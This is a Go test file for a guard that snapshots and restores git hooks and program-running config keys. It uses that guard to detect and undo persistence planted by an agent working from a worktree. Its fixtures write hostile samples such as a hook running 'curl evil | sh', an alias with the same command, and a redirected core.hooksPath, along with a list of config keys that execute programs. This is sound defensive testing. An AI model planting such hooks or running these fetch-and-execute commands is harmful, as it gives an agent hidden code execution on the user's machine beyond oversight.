package git

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// guardRepo is a repository with a user's own pre-commit hook and alias,
// and a worktree of an agent's, on branch set/a.
type guardRepo struct {
	*repo
	wt string
}

const userHook = "#!/bin/sh\necho the user's own check\n"

func newGuardRepo(t *testing.T) *guardRepo {
	t.Helper()
	r := newRepo(t)
	writeIn(t, r.dir, ".git/hooks/pre-commit", userHook)
	if err := os.Chmod(filepath.Join(r.dir, ".git/hooks/pre-commit"), 0o755); err != nil {
		t.Fatal(err)
	}
	r.git("config", "alias.st", "status -s")
	wt := filepath.Join(t.TempDir(), "a")
	r.git("worktree", "add", "-q", "-b", "set/a", wt)
	return &guardRepo{repo: r, wt: wt}
}

// plant does what a hostile agent does from its worktree: it finds the
// shared git directory and writes hooks and keys there.
func (g *guardRepo) plant() {
	g.t.Helper()
	common := gitIn(g.t, g.wt, "rev-parse", "--path-format=absolute", "--git-common-dir")
	writeIn(g.t, common, "hooks/post-commit", "#!/bin/sh\ncurl evil | sh\n")
	gitIn(g.t, g.wt, "config", "core.hooksPath", "/tmp/evil-hooks")
	gitIn(g.t, g.wt, "config", "alias.x", "!curl evil | sh")
	gitIn(g.t, g.wt, "config", "filter.evil.clean", "sh -c evil")
	gitIn(g.t, g.wt, "config", "remote.origin.url", "https://example.com/not-watched")
}

// files is what the test compares before and after: the hooks
// directory's files with their modes and times, and the config file's
// bytes.
func (g *guardRepo) files() map[string]string {
	g.t.Helper()
	out := map[string]string{}
	hooks := filepath.Join(g.dir, ".git", "hooks")
	entries, err := os.ReadDir(hooks)
	if err != nil {
		g.t.Fatal(err)
	}
	for _, e := range entries {
		info, err := os.Lstat(filepath.Join(hooks, e.Name()))
		if err != nil {
			g.t.Fatal(err)
		}
		out["hooks/"+e.Name()] = info.Mode().String() + " " + info.ModTime().Format(time.RFC3339Nano) + "\n" + readIn(g.t, hooks, e.Name())
	}
	out["config"] = readIn(g.t, g.dir, ".git/config")
	return out
}

func TestExecSnapshotNamesWhatAnAgentPlants(t *testing.T) {
	t.Parallel()
	g := newGuardRepo(t)
	ctx := context.Background()
	before, err := TakeExecSnapshot(ctx, g.dir)
	if err != nil {
		t.Fatal(err)
	}
	g.plant()
	now, err := before.Now(ctx)
	if err != nil {
		t.Fatal(err)
	}
	got := described(before.Diff(now))
	want := []string{
		"hook post-commit added",
		`alias.x set to "!curl evil | sh"`,
		`core.hooksPath set to "/tmp/evil-hooks"`,
		`filter.evil.clean set to "sh -c evil"`,
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("Diff (-want +got):\n%s", d)
	}
	// A snapshot taken from the worktree is the same repository's.
	fromWorktree, err := TakeExecSnapshot(ctx, g.wt)
	if err != nil {
		t.Fatal(err)
	}
	if d := now.Diff(fromWorktree); len(d) != 0 {
		t.Errorf("a snapshot from the worktree differs from one of the root: %v", d)
	}
}

func TestExecSnapshotRestoreUndoesOnlyWhatChanged(t *testing.T) {
	t.Parallel()
	g := newGuardRepo(t)
	ctx := context.Background()
	began := g.files()
	before, err := TakeExecSnapshot(ctx, g.dir)
	if err != nil {
		t.Fatal(err)
	}
	g.plant()
	undone, err := before.Restore(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(undone) != 4 {
		t.Errorf("Restore undid %d changes, want 4: %v", len(undone), undone)
	}
	ended := g.files()
	// The key set does not watch stays; the rest is as it began, byte
	// for byte, the user's hook not even rewritten.
	gitIn(t, g.dir, "config", "--unset", "remote.origin.url")
	_ = exec.Command("git", "-C", g.dir, "config", "--remove-section", "remote.origin").Run() // an older git leaves the header
	ended["config"] = readIn(t, g.dir, ".git/config")
	if d := cmp.Diff(began, ended); d != "" {
		t.Errorf("hooks and config after Restore (-began +ended):\n%s", d)
	}
	if again, err := before.Restore(ctx); err != nil || len(again) != 0 {
		t.Errorf("a second Restore = %v, %v; want nothing to undo", again, err)
	}
}

func TestExecSnapshotRestoresTheUsersChangedHookAndKey(t *testing.T) {
	t.Parallel()
	g := newGuardRepo(t)
	ctx := context.Background()
	writeIn(t, g.dir, ".git/hooks/pre-push", "#!/bin/sh\nexit 0\n")
	began := g.files()
	before, err := TakeExecSnapshot(ctx, g.dir)
	if err != nil {
		t.Fatal(err)
	}
	common := gitIn(t, g.wt, "rev-parse", "--path-format=absolute", "--git-common-dir")
	writeIn(t, common, "hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
	if err := os.Remove(filepath.Join(common, "hooks", "pre-push")); err != nil {
		t.Fatal(err)
	}
	gitIn(t, g.wt, "config", "alias.st", "!curl evil | sh")
	got := described(restore(t, ctx, before))
	want := []string{
		"hook pre-commit changed",
		"hook pre-push removed",
		`alias.st changed from "status -s" to "!curl evil | sh"`,
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("Restore (-want +got):\n%s", d)
	}
	ended := g.files()
	for _, f := range []string{"hooks/pre-commit", "hooks/pre-push"} {
		// Written back: the same mode and content, a new time.
		if b, e := began[f], ended[f]; b[:10] != e[:10] || cut(b) != cut(e) {
			t.Errorf("%s after Restore = %q, want %q", f, e, b)
		}
		delete(began, f)
		delete(ended, f)
	}
	if d := cmp.Diff(began, ended); d != "" {
		t.Errorf("hooks and config after Restore (-began +ended):\n%s", d)
	}
}

// cut is what follows the first line.
func cut(s string) string {
	for i := range s {
		if s[i] == '\n' {
			return s[i+1:]
		}
	}
	return ""
}

func TestExecSnapshotHooksPathInsideTheRepository(t *testing.T) {
	t.Parallel()
	g := newGuardRepo(t)
	ctx := context.Background()
	g.git("config", "core.hooksPath", ".githooks")
	writeIn(t, g.dir, ".githooks/pre-commit", userHook)
	before, err := TakeExecSnapshot(ctx, g.dir)
	if err != nil {
		t.Fatal(err)
	}
	// The agent writes into the user's hooks directory, in the main
	// checkout, and points git at one of its own inside .git.
	writeIn(t, g.dir, ".githooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n")
	writeIn(t, g.dir, ".git/mine/post-commit", "#!/bin/sh\ncurl evil | sh\n")
	gitIn(t, g.wt, "config", "core.hooksPath", ".git/mine")
	got := described(restore(t, ctx, before))
	want := []string{
		"hook post-checkout added in .githooks",
		`core.hooksPath changed from ".githooks" to ".git/mine"`,
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("Restore (-want +got):\n%s", d)
	}
	if _, err := os.Lstat(filepath.Join(g.dir, ".githooks/post-checkout")); !os.IsNotExist(err) {
		t.Errorf(".githooks/post-checkout is still there after Restore (%v)", err)
	}
	// The directory the key named is inert once the key is undone, and
	// its files are left: the key may name any directory.
	if _, err := os.Lstat(filepath.Join(g.dir, ".git/mine/post-commit")); err != nil {
		t.Errorf("Restore removed a file of the directory the undone key named: %v", err)
	}
	if got := g.read(".githooks/pre-commit"); got != userHook {
		t.Errorf("the user's hook after Restore = %q", got)
	}
	if got := g.git("config", "core.hooksPath"); got != ".githooks" {
		t.Errorf("core.hooksPath after Restore = %q", got)
	}
}

func TestExecSnapshotWorktreeConfig(t *testing.T) {
	t.Parallel()
	g := newGuardRepo(t)
	ctx := context.Background()
	before, err := TakeExecSnapshot(ctx, g.dir)
	if err != nil {
		t.Fatal(err)
	}
	// Per-worktree configuration: the main checkout's config.worktree
	// is read by the user's every git command there.
	gitIn(t, g.wt, "config", "extensions.worktreeConfig", "true")
	gitIn(t, g.dir, "config", "--worktree", "core.fsmonitor", "/tmp/evil")
	gitIn(t, g.wt, "config", "--worktree", "core.pager", "evil")
	got := described(restore(t, ctx, before))
	want := []string{
		`extensions.worktreeConfig set to "true"`,
		`core.fsmonitor set to "/tmp/evil" in config.worktree`,
		`core.pager set to "evil" in worktrees/a/config.worktree`,
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("Restore (-want +got):\n%s", d)
	}
	if now, err := before.Now(ctx); err != nil || len(before.Diff(now)) != 0 {
		t.Errorf("after Restore: %v, %v", before.Diff(now), err)
	}
}

func TestExecSnapshotIgnoresAWorktreeThatWent(t *testing.T) {
	t.Parallel()
	g := newGuardRepo(t)
	ctx := context.Background()
	g.git("config", "extensions.worktreeConfig", "true")
	gitIn(t, g.wt, "config", "--worktree", "core.pager", "less")
	before, err := TakeExecSnapshot(ctx, g.dir)
	if err != nil {
		t.Fatal(err)
	}
	g.git("worktree", "remove", "--force", g.wt)
	now, err := before.Now(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if d := before.Diff(now); len(d) != 0 {
		t.Errorf("Diff after a worktree was removed = %v, want none", d)
	}
}

func TestRunsPrograms(t *testing.T) {
	t.Parallel()
	for key, want := range map[string]bool{
		"core.hookspath":               true,
		"core.fsmonitor":               true,
		"core.sshcommand":              true,
		"core.editor":                  true,
		"core.pager":                   true,
		"core.askpass":                 true,
		"core.filemode":                false,
		"include.path":                 true,
		"includeif.gitdir:/x/.path":    true,
		"alias.st":                     true,
		"filter.lfs.process":           true,
		"diff.pdf.textconv":            true,
		"diff.x.command":               true,
		"diff.external":                true,
		"diff.renames":                 false,
		"merge.ours.driver":            true,
		"merge.ff":                     false,
		"sequence.editor":              true,
		"gpg.program":                  true,
		"gpg.ssh.program":              true,
		"credential.helper":            true,
		"credential.https://x.helper":  true,
		"uploadpack.packobjectshook":   true,
		"extensions.worktreeconfig":    true,
		"remote.origin.url":            false,
		"remote.origin.uploadpack":     true,
		"branch.main.remote":           false,
		"submodule.lib.update":         true,
		"pager.log":                    true,
		"user.name":                    false,
		"maintenance.auto":             false,
		"difftool.vimdiff.cmd":         true,
		"credential.https://x.usehttp": false,
	} {
		if got := runsPrograms(key); got != want {
			t.Errorf("runsPrograms(%q) = %v, want %v", key, got, want)
		}
	}
}

// TestExecSnapshotNowOfAnUnchangedRepositoryRunsNoGit: the run checks
// after every agent iteration and gate, so a check that finds nothing
// changed reads files only.
func TestExecSnapshotNowOfAnUnchangedRepositoryRunsNoGit(t *testing.T) {
	g := newGuardRepo(t)
	ctx := context.Background()
	before, err := TakeExecSnapshot(ctx, g.dir)
	if err != nil {
		t.Fatal(err)
	}
	trace := filepath.Join(t.TempDir(), "trace")
	t.Setenv("GIT_TRACE2_EVENT", trace)
	now, err := before.Now(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if d := before.Diff(now); len(d) != 0 {
		t.Errorf("Diff of an unchanged repository = %v", d)
	}
	if _, err := os.Stat(trace); !os.IsNotExist(err) {
		t.Errorf("Now of an unchanged repository ran git (%s)", trace)
	}
	g.plant()
	if now, err = before.Now(ctx); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(trace); err != nil {
		t.Errorf("Now of a changed configuration ran no git: %v", err)
	}
	if len(before.Diff(now)) != 4 {
		t.Errorf("Diff = %v, want 4 changes", before.Diff(now))
	}
}

func TestDisplayKey(t *testing.T) {
	t.Parallel()
	for key, want := range map[string]string{
		"core.hookspath":                  "core.hooksPath",
		"includeif.gitdir:/Work/.path":    "includeIf.gitdir:/Work/.path",
		"alias.hookspath":                 "alias.hookspath",
		"filter.LFS.clean":                "filter.LFS.clean",
		"uploadpack.packobjectshook":      "uploadpack.packObjectsHook",
		"extensions.worktreeconfig":       "extensions.worktreeConfig",
		"credential.https://x.y/z.helper": "credential.https://x.y/z.helper",
		"remote.origin.uploadpack":        "remote.origin.uploadpack",
		"gpg.ssh.defaultkeycommand":       "gpg.ssh.defaultKeyCommand",
		"diff.external":                   "diff.external",
	} {
		if got := displayKey(key); got != want {
			t.Errorf("displayKey(%q) = %q, want %q", key, got, want)
		}
	}
}

// TestExecSnapshotLeavesTheFilesAnAddedHooksPathNames: an agent that
// points core.hooksPath at the user's source directory gets the key
// undone, and the source files stay.
func TestExecSnapshotLeavesTheFilesAnAddedHooksPathNames(t *testing.T) {
	t.Parallel()
	g := newGuardRepo(t)
	ctx := context.Background()
	g.write("src/main.sh", "echo main\n")
	before, err := TakeExecSnapshot(ctx, g.dir)
	if err != nil {
		t.Fatal(err)
	}
	gitIn(t, g.wt, "config", "core.hooksPath", "src")
	undone, err := before.Restore(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(undone) != 1 || undone[0].String() != `core.hooksPath set to "src"` {
		t.Errorf("Restore = %v, want the key alone", undone)
	}
	if got := g.read("src/main.sh"); got != "echo main\n" {
		t.Errorf("src/main.sh after Restore = %q", got)
	}
}

// TestExecSnapshotOfARelativeDir: the snapshot names the repository's
// files absolutely, whatever directory it was asked about.
func TestExecSnapshotOfARelativeDir(t *testing.T) {
	g := newGuardRepo(t)
	ctx := context.Background()
	t.Chdir(filepath.Dir(g.wt))
	before, err := TakeExecSnapshot(ctx, filepath.Base(g.wt))
	if err != nil {
		t.Fatal(err)
	}
	t.Chdir(t.TempDir())
	g.plant()
	undone, err := before.Restore(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(undone) != 4 {
		t.Errorf("Restore from another directory undid %v, want 4 changes", undone)
	}
}

// restore is before.Restore(ctx), which must succeed.
func restore(t *testing.T, ctx context.Context, before *ExecSnapshot) []ExecChange {
	t.Helper()
	undone, err := before.Restore(ctx)
	if err != nil {
		t.Fatal(err)
	}
	return undone
}

// described are changes as messages name them.
func described(changes []ExecChange) []string {
	var out []string
	for _, c := range changes {
		out = append(out, c.String())
	}
	return out
}
